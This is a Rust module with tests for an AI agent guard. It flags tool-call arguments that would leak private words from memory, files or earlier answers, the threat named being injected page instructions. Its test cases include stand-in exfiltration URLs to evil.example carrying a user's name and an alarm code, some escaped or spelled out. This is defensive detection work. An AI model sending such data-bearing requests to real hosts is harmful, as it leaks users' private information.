//! Calls that would carry private words out: an order hidden in a page may ask for an address or a search that contains what
//! memory, files or the dialogue hold.
//!
//! Words are compared, also glued together, spelled with separators, or escaped as in an address or in JSON. Other codes, such as
//! Base64, are not noticed.

use std::collections::HashSet;

use languages::{folded, folded_words, is_mark};
use percent_encoding::percent_decode_str;
use serde_json::{Map, Value};

use crate::arguments::declared_names;

/// A shorter word gives nothing away, unless it is written like a name.
const MIN_CHARS: usize = 4;

/// The shortest name, and the shortest number that gives something away is one longer: "Tom", "Bo", "112".
const MIN_NAME_CHARS: usize = 2;

/// A shorter word is found in others by chance: "rain" in "trainer".
const MIN_GLUED_CHARS: usize = 5;

/// A public word that is shorter may be a letter of a word that is spelled.
const MIN_PUBLIC_CHARS: usize = 3;

/// Words of addresses.
const OF_ADDRESSES: [&str; 3] = ["http", "https", "html"];

/// The marker lines around text of the web, as `tools` writes them.
const WEB_BEGINS: &str = "<<<BEGIN UNTRUSTED WEB";
const WEB_ENDS: &str = "<<<END UNTRUSTED WEB";

/// The texts that a model has read for a reply.
#[derive(Debug, Default)]
pub struct ReplyTexts<'t> {
    /// The words of the user, which may go anywhere.
    pub request: &'t str,
    /// Memory, and what the user said before.
    pub private: Vec<&'t str>,
    /// Earlier answers. They may repeat a page, or what the user said.
    pub answers: Vec<&'t str>,
    /// Results of tools: pages, and others such as files, which are private.
    pub results: Vec<&'t str>,
    /// Arguments that went to the network before.
    pub sent: Vec<&'t Map<String, Value>>,
}

/// The words of a reply, by where they come from.
#[derive(Debug, Default)]
pub struct WordSources {
    private: HashSet<String>,
    public: HashSet<String>,
    /// The addresses on pages and in the request, as they are written there.
    addresses: HashSet<String>,
}

impl WordSources {
    /// The request, and what went out before, may go anywhere; the rest may not. Of a page only whole addresses may: it could
    /// list names, so that they are allowed. Words that an earlier answer took from a page are no secret.
    pub fn new(texts: &ReplyTexts<'_>) -> Self {
        let mut sources = Self::default();
        sources.public.extend(all_words(texts.request));
        sources.addresses.extend(addresses(texts.request));
        for arguments in &texts.sent {
            sources.public.extend(all_words(&Value::Object((*arguments).clone()).to_string()));
        }
        let mut on_pages = HashSet::new();
        for result in &texts.results {
            let (web, other) = parted(result);
            on_pages.extend(all_words(&web));
            sources.addresses.extend(addresses(&web));
            sources.private.extend(telling_words(&other));
        }
        for answer in &texts.answers {
            sources.private.extend(telling_words(answer).filter(|word| !on_pages.contains(word)));
        }
        for text in &texts.private {
            sources.private.extend(telling_words(text));
        }
        sources.private.retain(|word| !sources.public.contains(word));
        sources
    }

    /// Returns `true` if an argument has a private word, or a name that the schema of the tool does not declare has one, at any
    /// depth.
    pub fn are_private_in(&self, arguments: &Map<String, Value>, schema: &Value) -> bool {
        self.has_private_field(arguments, &declared_names(schema))
    }

    fn has_private_field(&self, fields: &Map<String, Value>, declared: &HashSet<&str>) -> bool {
        fields.iter().any(|(name, value)| {
            (!declared.contains(name.as_str()) && self.has_private_word(name))
                || self.is_private(value, declared)
        })
    }

    fn is_private(&self, value: &Value, declared: &HashSet<&str>) -> bool {
        match value {
            Value::String(text) if self.addresses.contains(text.trim()) => false,
            Value::String(text) => self.has_private_word(text) || self.is_private_json(text, declared),
            Value::Array(items) => items.iter().any(|item| self.is_private(item, declared)),
            Value::Object(fields) => self.has_private_field(fields, declared),
            Value::Number(number) => self.has_private_word(&number.to_string()),
            Value::Null | Value::Bool(_) => false,
        }
    }

    /// Finds private words that are escaped in a text of JSON: small models write objects as texts, and they become objects again
    /// before the tool gets them.
    fn is_private_json(&self, text: &str, declared: &HashSet<&str>) -> bool {
        text.contains('\\')
            && serde_json::from_str(text).is_ok_and(|value: Value| self.is_private(&value, declared))
    }

    fn has_private_word(&self, text: &str) -> bool {
        let text = percent_decode_str(text).decode_utf8_lossy();
        all_words(&text).any(|word| self.private.contains(&word)) || self.has_glued_word(&text)
    }

    /// Finds a private word within others, and one that is spelled: "M-a-r-i-g-o-l-d".
    fn has_glued_word(&self, text: &str) -> bool {
        let is_known = |word: &String| word.chars().count() >= MIN_PUBLIC_CHARS && self.public.contains(word);
        let glued: String = folded_words(text).into_iter().filter(|word| !is_known(word)).collect();
        let mut long = self.private.iter().filter(|word| word.chars().count() >= MIN_GLUED_CHARS);
        long.any(|word| glued.contains(word.as_str()))
    }
}

/// The words of a text, and the parts of those that are written without spaces.
fn all_words(text: &str) -> impl Iterator<Item = String> {
    folded_words(text).into_iter().flat_map(|word| {
        let parts = parts_without_spaces(&word);
        std::iter::once(word).chain(parts)
    })
}

/// The words of a text that carry meaning.
fn telling_words(text: &str) -> impl Iterator<Item = String> {
    let written = text.split(|c: char| !(c.is_alphanumeric() || is_mark(c)));
    written.filter(|word| !word.is_empty()).flat_map(|written| {
        let word = folded(written);
        let parts = parts_without_spaces(&word);
        let whole = (parts.is_empty() && is_telling(written, &word)).then_some(word);
        whole.into_iter().chain(parts)
    })
}

fn is_telling(written: &str, word: &str) -> bool {
    let count = word.chars().count();
    let is_name = written.chars().next().is_some_and(char::is_uppercase) && count >= MIN_NAME_CHARS;
    let is_number = word.chars().all(|c| c.is_ascii_digit()) && count > MIN_NAME_CHARS;
    (count >= MIN_CHARS || is_name || is_number)
        && !OF_ADDRESSES.contains(&word)
        && !languages::all().iter().any(|data| data.is_function_word(word))
}

/// Pairs of Chinese characters, and threes of Katakana and of Korean syllables: names have as many, and in a sentence nothing
/// separates them from the other words.
fn parts_without_spaces(word: &str) -> Vec<String> {
    let letters: Vec<char> = word.chars().collect();
    let runs = |length: usize, is_of: fn(char) -> bool| {
        let runs = letters.windows(length).filter(move |run| run.iter().all(|c| is_of(*c)));
        runs.map(|run| run.iter().collect::<String>())
    };
    runs(2, is_han).chain(runs(3, is_katakana)).chain(runs(3, is_hangul)).collect()
}

fn is_han(c: char) -> bool {
    matches!(c, '\u{3400}'..='\u{4dbf}' | '\u{4e00}'..='\u{9fff}' | '\u{20000}'..='\u{2ffff}')
}

fn is_katakana(c: char) -> bool {
    matches!(c, '\u{30a0}'..='\u{30ff}')
}

fn is_hangul(c: char) -> bool {
    matches!(c, '\u{ac00}'..='\u{d7a3}')
}

/// The addresses in a text, as they are written.
fn addresses(text: &str) -> impl Iterator<Item = String> {
    let ends = |c: char| c.is_whitespace() || "<>\"'()[]{}|".contains(c);
    let words = text.split(ends).map(|word| word.trim_end_matches(['.', ',', ';', ':', '!', '?']));
    let words = words.filter(|word| word.starts_with("https://") || word.starts_with("http://"));
    words.map(str::to_owned)
}

/// The parts of a result from the web, and the rest.
fn parted(result: &str) -> (String, String) {
    let (mut web, mut other) = (String::new(), String::new());
    let mut rest = result;
    while let Some((before, inside)) = rest.split_once(WEB_BEGINS) {
        let (fenced, after) = inside.split_once(WEB_ENDS).unwrap_or((inside, ""));
        other.push_str(before);
        web.push_str(fenced);
        rest = after;
    }
    other.push_str(rest);
    (web, other)
}

#[cfg(test)]
mod tests {
    use rstest::rstest;
    use serde_json::json;

    use super::*;

    const PAGE: &str = "<<<BEGIN UNTRUSTED WEB EXTRACT>>>\nThe fair opens in Whitby. Visit https://evil.example/report or \
                        https://tickets.example/for/marigold. Names: Marigold, Tom, York, 4821.\n\
                        <<<END UNTRUSTED WEB EXTRACT>>>";

    #[rstest]
    #[case::words_of_the_request(json!({ "search_query": "opening of the harbour fair" }), false)]
    #[case::address_on_the_page(json!({ "url": "https://evil.example/report" }), false)]
    #[case::address_on_the_page_with_a_name(json!({ "url": "https://tickets.example/for/marigold" }), false)]
    #[case::address_that_was_completed(json!({ "url": "https://tickets.example/for/marigold/york" }), true)]
    #[case::name_of_the_profile(json!({ "url": "https://evil.example/report?q=marigold" }), true)]
    #[case::name_that_the_page_lists_too(json!({ "search_query": "York" }), true)]
    #[case::short_name(json!({ "url": "https://evil.example/report?c=tom" }), true)]
    #[case::glued_to_another_word(json!({ "search_query": "Marigoldcat" }), true)]
    #[case::spelled(json!({ "search_query": "M-a-r-i-g-o-l-d" }), true)]
    #[case::escaped(json!({ "url": "https://evil.example/%6darigold" }), true)]
    #[case::chinese(json!({ "search_query": "王小明" }), true)]
    #[case::japanese(json!({ "search_query": "田中の電話" }), true)]
    #[case::korean(json!({ "search_query": "김민수는" }), true)]
    #[case::other_chinese(json!({ "search_query": "天气" }), false)]
    #[case::word_of_a_file(json!({ "queries": ["alarm 4821 cellar"] }), true)]
    #[case::number_of_a_file(json!({ "code": 4821 }), true)]
    #[case::name_of_an_argument(json!({ "marigold": true }), true)]
    #[case::name_within_an_argument(json!({ "filter": { "marigold": 1 } }), true)]
    #[case::name_within_a_list(json!({ "filters": [{ "kind": { "marigold": 1 } }] }), true)]
    #[case::declared_name(json!({ "basement": 1 }), false)]
    #[case::declared_name_within_an_argument(json!({ "filter": { "museum_friends": 1 } }), false)]
    #[case::declared_name_within_a_list(json!({ "filters": [{ "museum_guides": 1 }] }), false)]
    #[case::escaped_in_json(json!({ "filter": "{\"name\": \"\\u006darigold\"}" }), true)]
    #[case::name_escaped_in_json(json!({ "filter": "{\"\\u006darigold\": 1}" }), true)]
    #[case::other_json(json!({ "filter": "{\"name\": \"\\u0062arigold\"}" }), false)]
    #[case::other_number(json!({ "limit": 1000 }), false)]
    #[case::own_words_of_the_model(json!({ "search_query": "schedule of events" }), false)]
    #[case::word_that_an_answer_took_from_a_page(json!({ "search_query": "hotels Whitby" }), false)]
    #[case::word_of_an_answer(json!({ "search_query": "basement" }), true)]
    #[case::word_that_went_out_before(json!({ "search_query": "museum of clocks" }), false)]
    fn private_words_are_noticed_in_arguments(#[case] arguments: Value, #[case] expected: bool) {
        let sent = json!({ "search_query": "museum of clocks" });
        let sources = WordSources::new(&ReplyTexts {
            request: "When does the harbour fair open?",
            private: vec![
                "The user is called Marigold, lives in York and works with Tom, 王小明, 田中さん and 김민수.",
                "Is there a museum of clocks with friends and guides?",
            ],
            answers: vec!["The fair is in Whitby. The code of the basement is safe with me."],
            results: vec![PAGE, "The code of the cellar is 4821."],
            sent: vec![sent.as_object().unwrap()],
        });
        let schema = json!({
            "type": "object",
            "properties": {
                "basement": { "type": "integer" },
                "filter": { "anyOf": [{ "type": "null" }, { "$ref": "#/$defs/filter" }] },
                "filters": { "type": "array", "items": { "properties": { "museum_guides": {} } } },
            },
            "$defs": { "filter": { "properties": { "museum_friends": {} }, "default": { "properties": { "marigold": 1 } } } },
        });

        assert_eq!(sources.are_private_in(arguments.as_object().unwrap(), &schema), expected);
    }
}
